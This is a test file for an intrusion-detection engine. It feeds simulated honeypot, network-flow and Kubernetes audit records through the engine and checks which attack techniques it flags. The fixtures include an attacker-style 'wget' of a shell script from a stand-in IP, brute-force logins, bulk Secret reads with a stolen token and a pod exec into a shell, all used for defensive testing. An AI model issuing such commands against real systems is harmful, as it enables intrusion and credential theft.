// The scripted attack corpus raises exactly the incidents each scenario names; the benign corpus raises none.
import { describe, expect, it, beforeAll } from "vitest";
import { attackCorpus } from "../../test/detector/corpus/attackCorpus.ts";
import { benignCorpus } from "../../test/detector/corpus/benignCorpus.ts";
import { body, type CorpusScenario } from "../../test/detector/corpus/corpusScenario.ts";
import { auditEvent } from "../../test/detector/fixtures/auditRecords.ts";
import { cowrie } from "../../test/detector/fixtures/cowrieRecords.ts";
import { eve } from "../../test/detector/fixtures/suricataRecords.ts";
import { detectionConfigSchema } from "../config/detectorConfig.ts";
import { DetectionEngine } from "../detection/detectionEngine.ts";
import { ingestFormats } from "../ingest/formats.ts";
import { ingestBatch } from "../ingest/ingestBatch.ts";
import { AnomalyScorer } from "../ml/scorer.ts";
import { SqliteRepository } from "../store/sqliteRepository.ts";

let scorer: AnomalyScorer;
beforeAll(async () => {
  scorer = await AnomalyScorer.load(new URL("../ml/model.onnx", import.meta.url).pathname);
});

/**
 * Ingests the scenario's batches and detects them as the detector's background passes do: by default one pass per
 * batch (a quiet detector), or with `onePass` a single pass over everything (a busy one gathering batches).
 */
async function run(scenario: CorpusScenario, opts: { onePass?: boolean; detection?: object } = {}) {
  const repository = new SqliteRepository(":memory:");
  await repository.migrate();
  const engine = new DetectionEngine({ config: detectionConfigSchema.parse(opts.detection ?? {}), containment: "alert", anomalyModel: scorer });
  const pass = () => repository.detectQueued(100_000, (events, tx) => engine.detectIn(tx, events));
  for (const [i, batch] of scenario.batches.entries()) {
    const result = await ingestBatch({ repository }, ingestFormats[batch.format]!, body(batch), "default", Date.parse("2024-05-15T00:00:00Z"));
    if (!result.ok) throw new Error(`${scenario.name}: batch ${i} refused: ${JSON.stringify(result.issues)}`);
    if (!opts.onePass) await pass();
  }
  if (opts.onePass) await pass();
  expect(await repository.countQueued()).toBe(0);
  const { items } = await repository.listIncidents("default", { limit: 100, offset: 0 });
  await repository.close();
  return items;
}

describe("attack corpus", () => {
  it.each(attackCorpus.map((s) => [s.name, s] as const))("%s", async (_name, scenario) => {
    const incidents = await run(scenario);
    const raised = incidents.map((i) => ({ technique: i.detectionKey, sourceIp: i.sourceIp, actor: i.actor })).sort((a, b) => a.technique.localeCompare(b.technique));
    const expected = scenario.expect.map((e) => ({ technique: e.technique, sourceIp: e.sourceIp, actor: e.actor ?? "" })).sort((a, b) => a.technique.localeCompare(b.technique));
    expect(raised).toEqual(expected);
    for (const e of scenario.expect) {
      const incident = incidents.find((i) => i.detectionKey === e.technique)!;
      expect(incident.evidence.total).toBeGreaterThanOrEqual(e.minEvidence);
      if (e.risk !== undefined) expect(incident.riskScore, `${e.technique} risk`).toBe(e.risk);
      expect(incident.techniques[0]).toMatchObject({ id: e.technique, name: expect.any(String) as string, tactic: expect.any(String) as string });
      expect(incident.status).toBe("open");
      expect(incident.detectedBy.model?.version).toBe(scorer.version);
    }
  });
});

describe("pass size", () => {
  // Under load a pass gathers many batches: the outcome must not depend on how arrivals were grouped.
  it.each(attackCorpus.map((s) => [s.name, s] as const))("%s: one pass over every batch raises the same incidents as a pass per batch", async (_name, scenario) => {
    const summary = (incidents: Awaited<ReturnType<typeof run>>) => incidents
      .map((i) => ({ technique: i.detectionKey, sourceIp: i.sourceIp, actor: i.actor, firstSeen: i.firstSeen, lastSeen: i.lastSeen, evidence: i.evidence }))
      .sort((a, b) => a.technique.localeCompare(b.technique) || a.sourceIp.localeCompare(b.sourceIp));
    expect(summary(await run(scenario, { onePass: true }))).toEqual(summary(await run(scenario)));
  });
});

describe("the operator's identity", () => {
  it("is judged like anyone's when it reads Secrets it does not manage", async () => {
    const operator = "system:serviceaccount:minixdr-system:minixdr-operator";
    const scenario: CorpusScenario = { name: "stolen operator token", description: "", expect: [], batches: [{ format: "k8s-audit", encoding: "eventlist", records: [
      auditEvent(0, { user: operator, verb: "list", resource: "secrets", code: 200, requestURI: "/api/v1/secrets?limit=500" }),
      auditEvent(1, { user: operator, verb: "list", resource: "secrets", code: 200, requestURI: "/api/v1/secrets?labelSelector=owner%3Dhelm" }),
    ] }] };
    const incidents = await run(scenario, { detection: { kubernetes: { operatorIdentities: [operator] } } });
    expect(incidents.map((i) => [i.detectionKey, i.actor, i.evidence.total])).toEqual([["T1552.007", operator, 2]]);
  });
});

describe("benign corpus", () => {
  it.each(benignCorpus.map((s) => [s.name, s] as const))("%s raises no incident", async (_name, scenario) => {
    expect(await run(scenario)).toEqual([]);
  });
});

describe("configured thresholds and windows (MiniXdr spec.detector.config.detection)", () => {
  const guesser = { srcIp: "192.0.2.202", session: "9e55e4000002" };
  const dropper = { srcIp: "203.0.113.98", session: "d40990e40002" };
  const secretsRead = (seconds: number, namespace: string) => auditEvent(seconds, {
    user: "dev-user", verb: "get", resource: "secrets", namespace, name: "creds", requestURI: `/api/v1/namespaces/${namespace}/secrets/creds`, code: 200,
  });
  // Each scenario raises its technique under one setting and not under the other: the rule reads the configured value.
  it.each([
    {
      what: "login after 4 failures: raised when 4 are enough, not when 5 are needed",
      technique: "T1078",
      raisedWith: { loginAfterFailures: { failures: 4 } },
      quietWith: { loginAfterFailures: { failures: 5 } },
      batches: [{ format: "cowrie", encoding: "ndjson", records: [
        ...[0, 30, 60, 90].map((t) => cowrie.loginFailed(guesser, t, "admin", `guess${t}`)), cowrie.loginSuccess(guesser, 125, "admin", "admin123"),
      ] }],
    },
    {
      what: "login after failures spread over 15 minutes: raised with a 20-minute window, not with the default 10",
      technique: "T1078",
      raisedWith: { loginAfterFailures: { windowSeconds: 1200 } },
      quietWith: {},
      batches: [{ format: "cowrie", encoding: "ndjson", records: [
        ...[0, 300, 600].map((t) => cowrie.loginFailed(guesser, t, "admin", `guess${t}`)), cowrie.loginSuccess(guesser, 900, "admin", "admin123"),
      ] }],
    },
    {
      what: "a download 20 minutes after login: raised with the default hour, not with a 10-minute window",
      technique: "T1105",
      raisedWith: {},
      quietWith: { toolDownload: { windowSeconds: 600 } },
      batches: [
        { format: "cowrie", encoding: "ndjson", records: [cowrie.loginSuccess(dropper, 0, "root", "root")] },
        { format: "cowrie", encoding: "ndjson", records: [cowrie.command(dropper, 1200, "wget http://198.51.100.66/bins/x86.sh")] },
      ],
    },
    {
      what: "secrets read in two namespaces 15 minutes apart: raised with a 20-minute window, not with the default 10",
      technique: "T1552.007",
      raisedWith: { kubernetes: { windowSeconds: 1200 } },
      quietWith: {},
      batches: [
        { format: "k8s-audit", encoding: "eventlist", records: [secretsRead(0, "payments")] },
        { format: "k8s-audit", encoding: "eventlist", records: [secretsRead(900, "billing")] },
      ],
    },
    {
      what: "the operator's informer listing and watching the Secrets it manages in every namespace: quiet once it is named an operator identity",
      technique: "T1552.007",
      raisedWith: {},
      quietWith: { kubernetes: { operatorIdentities: ["system:serviceaccount:minixdr-system:minixdr-operator"] } },
      batches: [{ format: "k8s-audit", encoding: "eventlist", records: [
        auditEvent(0, { user: "system:serviceaccount:minixdr-system:minixdr-operator", verb: "list", resource: "secrets", code: 200,
          requestURI: "/api/v1/secrets?labelSelector=app.kubernetes.io%2Fmanaged-by%3Dminixdr-operator&limit=500" }),
        auditEvent(1, { user: "system:serviceaccount:minixdr-system:minixdr-operator", verb: "watch", resource: "secrets", code: 200,
          requestURI: "/api/v1/secrets?allowWatchBookmarks=true&labelSelector=app.kubernetes.io%2Fmanaged-by%3Dminixdr-operator&resourceVersion=42&watch=true" }),
      ] }],
    },
    {
      what: "a monitoring poller's port sweep: quiet once suppressed for its network, raised when the suppression names another",
      technique: "T1046",
      raisedWith: { suppressions: [{ techniques: ["T1046"], sourceCidrs: ["10.0.6.0/24"] }] },
      quietWith: { suppressions: [{ techniques: ["T1046"], sourceCidrs: ["10.0.5.0/24", "2001:db8::/32"] }] },
      batches: [{ format: "suricata", encoding: "ndjson", records: Array.from({ length: 25 }, (_, i) => eve.flow(i, "10.0.5.9", "10.0.8.20", 1000 + i, 120, 60)) }],
    },
    {
      what: "exec into a pod: quiet when its namespace is suppressed, raised in another",
      technique: "T1609",
      raisedWith: { suppressions: [{ namespaces: ["dev"] }] },
      quietWith: { suppressions: [{ namespaces: ["payments", "dev"], techniques: ["T1609"] }] },
      batches: [{ format: "k8s-audit", encoding: "eventlist", records: [auditEvent(0, {
        user: "dev-user", verb: "create", resource: "pods", subresource: "exec", namespace: "payments", name: "api-7d9f",
        requestURI: "/api/v1/namespaces/payments/pods/api-7d9f/exec?command=sh", code: 101,
      })] }],
    },
  ] as const)("$what", async ({ technique, raisedWith, quietWith, batches }) => {
    const scenario = { name: technique, description: "", batches: batches as unknown as CorpusScenario["batches"], expect: [] };
    const techniques = async (detection: object) => (await run(scenario, { detection })).map((i) => i.detectionKey);
    expect(await techniques(raisedWith)).toContain(technique);
    expect(await techniques(quietWith)).not.toContain(technique);
  });
});
